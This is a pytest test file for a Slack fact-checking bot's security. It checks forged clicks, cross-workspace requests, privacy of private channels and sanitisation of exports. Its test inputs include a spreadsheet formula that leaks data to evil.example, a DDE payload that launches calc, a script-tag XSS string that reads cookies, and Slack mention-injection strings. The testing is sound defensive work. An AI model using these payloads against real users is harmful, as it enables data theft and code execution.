"""Issue 18 (third round) and issue 20: private work stays private.

Clicks are checked against the clicked message and the clicker's access; requests from another
workspace are refused; bad button values and NUL characters get clean answers; channel privacy and
members are recorded and kept current from Slack's channel events. Everything goes through signed
HTTP requests to the bot and the Slack stand-in, on SQLite or PostgreSQL (TEST_DATABASE_URL).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy import select

from bot.casework.views import EXPLAIN_ACTION, EXPLANATION_INPUT, TAKE_ACTION, URL_INPUT
from bot.desk.access import NOT_A_MEMBER, NOT_SHAREABLE, NOT_THIS_MESSAGE
from bot.desk.channels import UNKNOWN
from bot.desk.weekly_report import iso_week
from bot.publishing.views import MORE_CLAIMS_ACTION
from handlers.middleware import OTHER_WORKSPACE, UNREADABLE
from storage.models import ChannelMember, ChannelRecord, Claim, ClaimAssignee, LinkPost, Vote
from tests.conftest import NEWS_CHANNEL, QUOTES, REPORTER, RunningBot, llm_settings
from tests.harness.factcheck_tools import FactCheckToolsStandIn
from tests.harness.openai_server import OpenAIStandIn
from tests.harness.posts import claim_posts, row_count
from tests.harness.slack_api import BOT_USER_ID
from tests.harness.waiting import assert_quiet, wait_for_card, wait_idle, wait_until
from tests.test_cli import run
from tests.test_desk import EDITOR, PRIVATE, claims_answer, seed
from tests.test_desk_workflow import export
from tests.test_desk_workflow import seed as seed_claim
from tests.test_seen_before import AGAIN, FIRST, message_with, post_article, serve_pages, vote_false
from tests.test_seen_before import claim_row as seen_claim_row

OUTSIDER = "U0OUTSIDER"


def channel_event(bot: RunningBot, event: dict[str, Any]) -> None:
    assert bot.sender.event(event).status_code == 200


def invite_bot(bot: RunningBot, channel: str) -> None:
    """The bot is added to a channel: Slack sends member_joined_channel for it; it records the channel."""
    channel_event(bot, {"type": "member_joined_channel", "user": BOT_USER_ID, "channel": channel,
                        "channel_type": "G", "team": "T0TEST", "event_ts": "1.0"})
    wait_until(lambda: bot.services.directory.recorded(channel), 10, f"{channel} recorded")


def click(bot: RunningBot, user: str, channel: str, message_ts: str, action_id: str, value: str, *,
          thread_ts: str | None = None, team_id: str = "T0TEST") -> str:
    """Click a button; returns the response_url name its private answer (if any) would land under."""
    name = f"click{len(bot.slack.responses)}-{message_ts}"
    payload = bot.sender.block_action_payload(user, channel, message_ts, action_id, value, team_id=team_id,
                                              thread_ts=thread_ts, response_url=bot.slack.response_url(name))
    assert bot.sender.action(payload).status_code == 200
    return name


def answers(bot: RunningBot, name: str) -> list[str]:
    return [str(r.get("text")) for r in bot.slack.responses if r["path"].endswith(name)]


def votes(bot: RunningBot) -> list[tuple[int, str]]:
    with bot.services.db.session() as session:
        return [(v.claim_id, v.user_id) for v in session.scalars(select(Vote))]


def message_ts(bot: RunningBot, claim_id: int) -> str:
    with bot.services.db.session() as session:
        claim = session.get(Claim, claim_id)
        assert claim is not None and claim.message_ts
        return claim.message_ts


@pytest.fixture
def private_claim(bot: RunningBot) -> tuple[int, int]:
    """(a claim in a private channel only REPORTER belongs to, a claim in the public news channel)."""
    bot.slack.add_channel(PRIVATE, "investigations", is_private=True, members=[REPORTER])
    secret = seed(bot, 1, channel=PRIVATE, prefix="Secret")[0]
    public = seed(bot, 1, prefix="Public")[0]
    invite_bot(bot, PRIVATE)
    invite_bot(bot, NEWS_CHANNEL)
    return secret, public


# -- forged clicks -------------------------------------------------------------------------------------


def test_a_click_by_someone_outside_the_private_channel_changes_nothing(bot: RunningBot,
                                                                        private_claim: tuple[int, int]) -> None:
    secret, _public = private_claim
    ts = message_ts(bot, secret)
    for action in ("vote:false", TAKE_ACTION):
        name = click(bot, OUTSIDER, PRIVATE, ts, action, str(secret))
        assert bot.slack.wait_for(lambda name=name: answers(bot, name), 10) == [NOT_A_MEMBER]
    before = len(bot.slack.opened_views)
    name = click(bot, OUTSIDER, PRIVATE, ts, EXPLAIN_ACTION, str(secret))
    assert bot.slack.wait_for(lambda: answers(bot, name), 10) == [NOT_A_MEMBER]
    wait_idle(bot)
    assert votes(bot) == [] and row_count(bot, ClaimAssignee) == 0
    assert len(bot.slack.opened_views) == before  # the modal (with the claim's text) was never opened
    # The member's click on the same message counts.
    click(bot, REPORTER, PRIVATE, ts, "vote:false", str(secret))
    assert votes(bot) == [(secret, REPORTER)]


def test_a_button_value_pointing_at_another_claim_is_refused(bot: RunningBot,
                                                            private_claim: tuple[int, int]) -> None:
    secret, public = private_claim
    public_ts = message_ts(bot, public)
    # A public message's button, its value changed to the private claim's id.
    for action in ("vote:true", TAKE_ACTION, "same_claim"):
        name = click(bot, EDITOR, NEWS_CHANNEL, public_ts, action, str(secret))
        assert bot.slack.wait_for(lambda name=name: answers(bot, name), 10) == [NOT_THIS_MESSAGE]
    name = click(bot, EDITOR, NEWS_CHANNEL, public_ts, MORE_CLAIMS_ACTION, "1")
    assert bot.slack.wait_for(lambda: answers(bot, name), 10) == [NOT_THIS_MESSAGE]
    wait_idle(bot)
    assert votes(bot) == [] and row_count(bot, ClaimAssignee) == 0
    # In the claim's own thread (a verdict note's Explain button) the claim is the thread's: allowed.
    before = len(bot.slack.opened_views)
    click(bot, EDITOR, NEWS_CHANNEL, "1700000000.000100", EXPLAIN_ACTION, str(public), thread_ts=public_ts)
    bot.slack.wait_for(lambda: len(bot.slack.opened_views) > before, 10, "views.open was never called")
    click(bot, EDITOR, NEWS_CHANNEL, public_ts, "vote:true", str(public))
    assert votes(bot) == [(public, EDITOR)]


def test_a_modal_submission_is_bound_to_its_claim_and_its_user(bot: RunningBot,
                                                             private_claim: tuple[int, int]) -> None:
    secret, public = private_claim
    click(bot, REPORTER, PRIVATE, message_ts(bot, secret), EXPLAIN_ACTION, str(secret))
    view = bot.slack.wait_for(lambda: bot.slack.opened_views, 10)[-1]["view"]

    def submit(user: str, metadata: str, text: str) -> Any:
        forged = dict(view, private_metadata=metadata)
        payload = bot.sender.view_submission_payload(user, forged, {"explanation": {EXPLANATION_INPUT: text},
                                                                    "published_url": {URL_INPUT: None}})
        response = bot.sender.action(payload)
        assert response.status_code == 200
        return response.json() if response.content else None

    def explanation(claim_id: int) -> str | None:
        with bot.services.db.session() as session:
            claim = session.get(Claim, claim_id)
            return claim.explanation if claim else None

    metadata = json.loads(view["private_metadata"])
    # Someone else submitting the modal opened for REPORTER, and REPORTER pointing it at another claim.
    assert submit(OUTSIDER, view["private_metadata"], "overwritten by an outsider")["response_action"] == "errors"
    moved = json.dumps(dict(metadata, claim_id=public))
    assert submit(REPORTER, moved, "pointed at another claim")["response_action"] == "errors"
    assert submit(REPORTER, json.dumps({"claim_id": secret}), "unsigned")["response_action"] == "errors"
    assert explanation(secret) is None and explanation(public) is None
    assert submit(REPORTER, view["private_metadata"], "Because the report says so.") is None
    assert explanation(secret) == "Because the report says so."


# -- other workspaces ------------------------------------------------------------------------------------


def test_requests_from_another_workspace_are_refused(bot: RunningBot, private_claim: tuple[int, int]) -> None:
    _secret, public = private_claim
    wait_until(lambda: bot.services.gateway.known_identity(), 10, "the bot's identity")
    response = bot.sender.command("/claims", "all", team_id="T0OTHER", response_url=bot.slack.response_url("other"))
    assert response.status_code == 200 and response.json()["text"] == OTHER_WORKSPACE
    response = bot.sender.command("/factcheck", "https://news.example/a", team_id="T0OTHER")
    assert response.json()["text"] == OTHER_WORKSPACE
    name = click(bot, EDITOR, NEWS_CHANNEL, message_ts(bot, public), "vote:false", str(public), team_id="T0OTHER")
    view = {"id": "V1", "type": "modal", "callback_id": "explanation", "private_metadata": "{}",
            "blocks": [{"type": "input", "block_id": "explanation",
                        "element": {"type": "plain_text_input", "action_id": "explanation_input"}}]}
    submitted = bot.sender.view_submission_payload(EDITOR, view, {"explanation": {"explanation_input": "x"}},
                                                   team_id="T0OTHER")
    answer = bot.sender.action(submitted).json()
    assert answer["response_action"] == "update" and OTHER_WORKSPACE in json.dumps(answer["view"])
    shortcut = {"type": "shortcut", "callback_id": "anything", "trigger_id": "1.2.x", "team": {"id": "T0OTHER"},
                "user": {"id": EDITOR, "team_id": "T0OTHER"}, "token": "legacy-verification-token"}
    assert bot.sender.action(shortcut).status_code == 200
    assert_quiet(bot.slack, 0.5)
    assert votes(bot) == [] and not answers(bot, name) and not answers(bot, "other")
    assert row_count(bot, LinkPost) == 0


# -- bad values ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["²", "9" * 30, "1\x00", "-1", " 1", "1" * 19, str(2**31), "0"])
def test_bad_button_values_get_a_clean_answer(bot: RunningBot, private_claim: tuple[int, int], value: str) -> None:
    _secret, public = private_claim
    ts = message_ts(bot, public)
    for action in ("vote:false", MORE_CLAIMS_ACTION, TAKE_ACTION, "same_claim"):
        click(bot, EDITOR, NEWS_CHANNEL, ts, action, value)
    wait_idle(bot)
    assert votes(bot) == [] and row_count(bot, ClaimAssignee) == 0


def test_nul_characters_and_overlong_ids_are_answered_not_a_server_error(bot: RunningBot,
                                                                        private_claim: tuple[int, int]) -> None:
    _secret, public = private_claim
    url = bot.article_url("/bagram-bounty")
    response = bot.sender.command("/factcheck", f"{url}\x00", response_url=bot.slack.response_url("nul"))
    assert response.status_code == 200 and response.json()["text"] == UNREADABLE
    response = bot.sender.command("/factcheck", url, channel_id="C" + "X" * 40)
    assert response.status_code == 200 and response.json()["text"] == UNREADABLE
    response = bot.sender.command("/claims", "search \x00")
    assert response.status_code == 200 and response.json()["text"] == UNREADABLE
    event = bot.sender.message_event(channel=NEWS_CHANNEL, user=REPORTER, text=f"<{url}> \x00")
    assert bot.sender.event(event).status_code == 200
    payload = bot.sender.block_action_payload(EDITOR + "\x00", NEWS_CHANNEL, message_ts(bot, public), "vote:false",
                                              str(public))
    assert bot.sender.action(payload).status_code == 200
    long_user = bot.sender.block_action_payload("U" + "X" * 40, NEWS_CHANNEL, message_ts(bot, public),
                                                "vote:false", str(public))
    assert bot.sender.action(long_user).status_code == 200
    assert_quiet(bot.slack, 0.5)  # no orphan "asked me to check" post
    assert row_count(bot, LinkPost) == 0 and votes(bot) == []


# -- recorded channel facts -----------------------------------------------------------------------------


def visible_texts(bot: RunningBot, user: str) -> str:
    return json.dumps(claims_answer(bot, "all", user=user))


def test_channel_privacy_and_members_follow_slacks_channel_events(bot: RunningBot) -> None:
    room = bot.slack.add_channel("C0ROOM", "room", members=[REPORTER, EDITOR])
    seed(bot, 1, channel="C0ROOM", prefix="Roomclaim")
    invite_bot(bot, "C0ROOM")
    assert "Roomclaim" in visible_texts(bot, OUTSIDER)  # public: everyone may see it
    # Made private (Slack posts a channel_convert_to_private message): members are read in the background.
    room.is_private = True
    channel_event(bot, {"type": "message", "subtype": "channel_convert_to_private", "user": REPORTER,
                        "channel": "C0ROOM", "channel_type": "group", "ts": "1730984822.596869",
                        "event_ts": "1730984822.596869", "text": "made this channel *private*."})
    wait_until(lambda: (bot.services.directory.recorded("C0ROOM") or UNKNOWN).members, 10, "members recorded")
    assert "Roomclaim" not in visible_texts(bot, OUTSIDER)
    assert "Roomclaim" in visible_texts(bot, EDITOR)
    # A member leaves: no Slack call is needed to hide it from them.
    wait_idle(bot)
    bot.slack.reset_calls()
    room.members.remove(EDITOR)
    channel_event(bot, {"type": "member_left_channel", "user": EDITOR, "channel": "C0ROOM", "channel_type": "G",
                        "team": "T0TEST"})
    assert "Roomclaim" not in visible_texts(bot, EDITOR)
    room.members.append(OUTSIDER)
    channel_event(bot, {"type": "member_joined_channel", "user": OUTSIDER, "channel": "C0ROOM",
                        "channel_type": "G", "team": "T0TEST"})
    assert "Roomclaim" in visible_texts(bot, OUTSIDER)
    assert bot.slack.calls_to("conversations.info") == [] and bot.slack.calls_to("conversations.members") == []
    channel_event(bot, {"type": "group_archive", "channel": "C0ROOM"})
    with bot.services.db.session() as session:
        row = session.get(ChannelRecord, "C0ROOM")
        assert row is not None and row.is_private and row.is_archived
        members = set(session.scalars(select(ChannelMember.user_id).where(ChannelMember.channel_id == "C0ROOM")))
        assert members == {REPORTER, OUTSIDER, BOT_USER_ID}
    # Public again: everyone may see it.
    room.is_private = False
    channel_event(bot, {"type": "message", "subtype": "channel_convert_to_public", "user": REPORTER,
                        "channel": "C0ROOM", "channel_type": "channel", "ts": "1730984900.000100",
                        "event_ts": "1730984900.000100", "text": "made this channel *public*."})
    assert "Roomclaim" in visible_texts(bot, EDITOR)
    # The bot is removed from a private channel: it no longer hears who joins, so it counts nobody in.
    room.is_private = True
    channel_event(bot, {"type": "message", "subtype": "channel_convert_to_private", "user": REPORTER,
                        "channel": "C0ROOM", "channel_type": "group", "ts": "1730985000.000100",
                        "event_ts": "1730985000.000100", "text": "made this channel *private*."})
    wait_until(lambda: (bot.services.directory.recorded("C0ROOM") or UNKNOWN).members, 10, "members recorded again")
    wait_idle(bot)
    room.members.remove(BOT_USER_ID)
    channel_event(bot, {"type": "group_left", "channel": "C0ROOM"})
    assert "Roomclaim" not in visible_texts(bot, REPORTER)


# -- exports --------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
SCRIPT = "</script><script>alert(document.cookie)</script> & <!--"


def test_exports_neutralise_formulas_and_cannot_close_a_script_tag(bot: RunningBot, database_url: str) -> None:
    claim_id = seed_claim(bot, FORMULA, status="resolved", verdict="false", published_url="https://desk.example/a")
    with bot.services.db.session() as session:
        claim = session.get(Claim, claim_id)
        assert claim is not None
        claim.explanation, claim.speaker = SCRIPT, "@SUM(1+1)*cmd|' /C calc'!A0"
        claim.article.title = "+1 and -1 and \tTab"
    rows = list(csv.DictReader(io.StringIO(export(bot, database_url, "--format", "csv").stdout)))
    row = next(r for r in rows if r["claim_id"] == str(claim_id))
    assert row["claim"] == "'" + FORMULA and row["speaker"].startswith("'@") and row["article_title"][0] == "'"
    assert row["explanation"] == SCRIPT  # not a formula: left as it is
    assert not any(value[:1] in "=+-@\t\r" for r in rows for value in r.values() if value)
    text = export(bot, database_url, "--format", "claimreview").stdout
    assert "<" not in text and ">" not in text and "&" not in text
    review = next(r for r in json.loads(text) if r["claimReviewed"] == FORMULA)
    assert review["reviewBody"] == SCRIPT and review["reviewRating"]["ratingExplanation"] == SCRIPT


# -- text the bot did not write -------------------------------------------------------------------------

INJECTIONS = ("<!channel>", "<!here>", "<@U0BOSS>", "<!subteam^S0ALL>", "<https://evil.example|click>")


def test_text_from_articles_and_apis_never_pings_or_links_in_any_post(bot_factory, llm: OpenAIStandIn) -> None:
    injected = " ".join(INJECTIONS)
    answer = {"summary": f"{injected} CNN reports Iran paid bounties.",
              "claims": [{"claim": f"{injected} {q}", "quote": q, "speaker": "<!everyone>"} for q in QUOTES]}
    llm.responder = lambda request: json.dumps(answer)
    with FactCheckToolsStandIn() as tools:
        tools.publish(f"{injected} {QUOTES[0]}", publisher="<!here> Checks", rating="<@U0BOSS> False",
                      url="javascript:alert(document.cookie)", review_date="<!here>")
        bot = bot_factory(**llm_settings(llm), factcheck_tools_api_key=tools.api_key,
                          factcheck_tools_url=tools.base_url)
        url = bot.article_url("/bagram-bounty")
        first = bot.post_link(f"<{url}>")
        wait_for_card(bot, NEWS_CHANNEL, first)
        bot.slack.wait_for(lambda: any("Published fact-checks" in (m.get("text") or "")
                                       for m in bot.slack.messages(NEWS_CHANNEL) + [
                                           r for c in claim_posts(bot.slack, NEWS_CHANNEL)
                                           for r in bot.slack.thread(NEWS_CHANNEL, c["ts"])]), 15)
        again = bot.post_link(f"again <{url}>")  # the re-paste's reply quotes the claims too
        wait_for_card(bot, NEWS_CHANNEL, again)
        wait_idle(bot)
    posts = [m for top in bot.slack.messages(NEWS_CHANNEL) for m in [top, *bot.slack.thread(NEWS_CHANNEL, top["ts"])]
             if m.get("bot_id")]
    assert len(posts) >= 6
    for post in posts:
        for needle in (*INJECTIONS, "<!everyone>"):
            assert needle not in post.get("text", ""), (needle, post["text"][:200])
            assert needle not in json.dumps(post.get("blocks") or []), needle
        assert "<javascript:" not in json.dumps(post.get("blocks") or [])
    published = next(p for p in posts if "Published fact-checks" in p.get("text", ""))
    assert "&lt;!here&gt;" in json.dumps(published["blocks"])  # the review date, shown as text


# -- re-pastes and "seen before" across channels ---------------------------------------------------------


def test_a_repaste_in_a_public_channel_shows_nothing_of_the_private_work(bot: RunningBot) -> None:
    bot.slack.add_channel(PRIVATE, "investigations", is_private=True, members=[REPORTER])
    serve_pages(bot)
    secret = message_with(post_article(bot, "/council-budget", channel=PRIVATE), FIRST)
    vote_false(bot, PRIVATE, secret, user=REPORTER)
    ts = bot.post_link(f"<{bot.article_url('/council-budget')}>", user=EDITOR)
    reply = wait_for_card(bot, NEWS_CHANNEL, ts)
    shown = reply["text"] + json.dumps(reply["blocks"])
    assert "already being checked" in shown
    assert "not open to everyone here" in shown
    assert PRIVATE not in shown and "Anna Rossi" not in shown and "False" not in shown and "first shared" not in shown
    # In the private channel itself, a re-paste still lists the threads.
    again = bot.post_link(f"<{bot.article_url('/council-budget')}>", channel=PRIVATE)
    inside = wait_for_card(bot, PRIVATE, again)
    assert "Anna Rossi" in json.dumps(inside["blocks"]) and "first shared" in json.dumps(inside["blocks"])


def test_checked_before_stops_showing_once_the_earlier_channel_turns_private(bot: RunningBot) -> None:
    room = bot.slack.add_channel("C0ROOM", "room", members=[REPORTER, EDITOR])
    serve_pages(bot)
    earlier = message_with(post_article(bot, "/council-budget", channel="C0ROOM"), FIRST)
    vote_false(bot, "C0ROOM", earlier)
    again = message_with(post_article(bot, "/mayor-summit"), AGAIN)
    assert "Checked before" in json.dumps(again["blocks"])
    again_row = seen_claim_row(bot, again["ts"])
    # The earlier channel is made private (EDITOR is not in the news channel's audience of everyone).
    room.is_private = True
    channel_event(bot, {"type": "message", "subtype": "channel_convert_to_private", "user": REPORTER,
                        "channel": "C0ROOM", "channel_type": "group", "ts": "1730984822.596869",
                        "event_ts": "1730984822.596869", "text": "made this channel *private*."})
    wait_until(lambda: (bot.services.directory.recorded("C0ROOM") or UNKNOWN).members, 10, "members recorded")
    # "Same claim" no longer carries the private claim's verdict over ...
    name = click(bot, REPORTER, NEWS_CHANNEL, again["ts"], "same_claim", str(again_row.id))
    assert bot.slack.wait_for(lambda: answers(bot, name), 10) == [NOT_SHAREABLE]
    assert seen_claim_row(bot, again["ts"]).status == "open"
    # ... and the next re-render of the claim message drops the line.
    react_on(bot, NEWS_CHANNEL, again["ts"], REPORTER, "white_check_mark")
    bot.slack.wait_for(lambda: "Checked before" not in json.dumps(bot.slack.message(NEWS_CHANNEL, again["ts"])
                                                                  ["blocks"]), 10, "the line to go")
    assert "earlier thread" not in json.dumps(bot.slack.message(NEWS_CHANNEL, again["ts"])["blocks"])


def test_a_private_claim_coming_back_is_not_announced_in_a_public_thread(bot: RunningBot) -> None:
    """The privacy check of SeenBefore.note_returning: a public claim matched from a private channel."""
    bot.slack.add_channel(PRIVATE, "investigations", is_private=True, members=[REPORTER])
    serve_pages(bot)
    earlier = message_with(post_article(bot, "/council-budget"), FIRST)
    vote_false(bot, NEWS_CHANNEL, earlier)
    secret = message_with(post_article(bot, "/mayor-summit", channel=PRIVATE), AGAIN)
    assert "Checked before" in json.dumps(secret["blocks"])  # the private channel may read public claims
    assert seen_claim_row(bot, secret["ts"]).seen_claim_id == seen_claim_row(bot, earlier["ts"]).id
    wait_idle(bot)
    notes = [m for m in bot.slack.thread(NEWS_CHANNEL, earlier["ts"]) if "came back" in m.get("text", "")]
    assert notes == []


# -- the weekly summary ----------------------------------------------------------------------------------


def react_on(bot: RunningBot, channel: str, ts: str, user: str, name: str, *, added: bool = True,
             event_id: str | None = None) -> None:
    if added:
        bot.slack.add_reaction(channel, ts, name, user)
    else:
        bot.slack.remove_reaction(channel, ts, name, user)
    event = bot.sender.reaction_event(kind="reaction_added" if added else "reaction_removed", user=user,
                                      reaction=name, channel=channel, ts=ts)
    assert bot.sender.event(event, event_id=event_id).status_code == 200
    bot.settle()


def test_weekly_votes_leave_out_private_claims_the_summary_channel_may_not_see(
        bot: RunningBot, private_claim: tuple[int, int]) -> None:
    secret, public = private_claim
    bot.slack.channels[PRIVATE].members.append(EDITOR)
    channel_event(bot, {"type": "member_joined_channel", "user": EDITOR, "channel": PRIVATE, "channel_type": "G",
                        "team": "T0TEST"})
    react_on(bot, PRIVATE, message_ts(bot, secret), EDITOR, "x")
    react_on(bot, NEWS_CHANNEL, message_ts(bot, public), REPORTER, "x")
    wait_until(lambda: len(votes(bot)) == 2, 10, "two votes")
    week = iso_week(datetime.now(UTC).date())
    ts = bot.services.weekly.post_weekly(week, NEWS_CHANNEL)
    shown = json.dumps(bot.slack.message(NEWS_CHANNEL, ts)["blocks"])
    assert f"<@{REPORTER}> (1)" in shown and f"<@{EDITOR}>" not in shown
    # Posted where everyone is a member of the private channel, its votes count.
    inside = bot.services.weekly.post_weekly(week, PRIVATE)
    assert f"<@{EDITOR}> (1)" in json.dumps(bot.slack.message(PRIVATE, inside)["blocks"])


def test_the_weekly_summary_is_posted_once_even_when_re_run_long_after(bot: RunningBot) -> None:
    """The weekly_summaries record, not the 15-minute look-back for an earlier copy, keeps it to one post."""
    seed(bot, 1, prefix="Weekly")
    week = iso_week(datetime.now(UTC).date())
    bot.slack._clock -= 3600  # the first post is an hour old when the cron job runs again
    first = bot.services.weekly.post_weekly(week, NEWS_CHANNEL)
    bot.slack._clock += 3600
    again = bot.services.weekly.post_weekly(week, NEWS_CHANNEL)
    assert again == first
    weekly = [m for m in bot.slack.bot_messages(NEWS_CHANNEL) if "Fact-check desk, week" in m.get("text", "")]
    assert len(weekly) == 1


# -- event-id de-duplication --------------------------------------------------------------------------


def test_a_redelivered_event_is_recorded_once(bot: RunningBot, private_claim: tuple[int, int]) -> None:
    """Slack re-delivers an event (same event_id) it thinks was lost: after the vote was withdrawn, the
    stale re-delivery must not bring it back."""
    _secret, public = private_claim
    ts = message_ts(bot, public)
    react_on(bot, NEWS_CHANNEL, ts, EDITOR, "x", event_id="Ev0REDELIVERED")
    react_on(bot, NEWS_CHANNEL, ts, EDITOR, "x", added=False)
    event = bot.sender.reaction_event(kind="reaction_added", user=EDITOR, reaction="x", channel=NEWS_CHANNEL, ts=ts)
    assert bot.sender.event(event, event_id="Ev0REDELIVERED", retry_num=1).status_code == 200
    wait_idle(bot)
    with bot.services.db.session() as session:
        rows = [(v.action, v.user_id) for v in session.scalars(select(Vote).order_by(Vote.id))]
        claim = session.get(Claim, public)
        assert claim is not None and claim.verdict is None and claim.status == "open"
    assert rows == [("added", EDITOR), ("withdrawn", EDITOR)]


def test_channels_of_earlier_claims_are_recorded_at_start(bot: RunningBot, bot_factory: Any) -> None:
    """Claims made before channels were recorded: their channels are learned in the background at start,
    and private ones are read again (members may have changed while the bot was away)."""
    bot.slack.add_channel(PRIVATE, "investigations", is_private=True, members=[REPORTER])
    seed(bot, 1, channel=PRIVATE, prefix="Older")
    assert bot.services.directory.recorded(PRIVATE) is None
    restarted = bot_factory()
    facts = wait_until(lambda: restarted.services.directory.recorded(PRIVATE), 10, "the channel recorded")
    assert facts.is_private and facts.members is not None and REPORTER in facts.members


def test_exports_use_recorded_privacy_when_slack_refuses_or_is_unreachable(bot: RunningBot, database_url: str,
                                                                           private_claim: tuple[int, int]) -> None:
    """Issue 20: an export needs Slack only for channels it never recorded; a refused token or no route
    to Slack is one line on stderr, never a traceback, and recorded channels export as usual."""
    for claim_id in private_claim:
        with bot.services.db.session() as session:
            claim = session.get(Claim, claim_id)
            assert claim is not None
            claim.status, claim.verdict, claim.resolved_at = "resolved", "false", claim.created_at
            claim.published_url = f"https://desk.example/{claim_id}"
    seed_claim(bot, "Never recorded", channel="C0NEVER", status="resolved", verdict="true",
               published_url="https://desk.example/never")
    for api_url in ("http://127.0.0.1:9/api/", bot.slack.api_url):
        env = {"DATABASE_URL": database_url, "SLACK_BOT_TOKEN": "xoxb-refused" if api_url == bot.slack.api_url
               else "xoxb-test-token-0000", "SLACK_API_URL": api_url, "NEWSROOM_NAME": "Desk"}
        bot.slack.valid_tokens = {"xoxb-test-token-0000"}
        done = run("export", env=env)
        assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
        assert [r["claimReviewed"] for r in json.loads(done.stdout)] == ["Public 0"]
        assert "1 private channel" in done.stderr and "has not recorded" in done.stderr
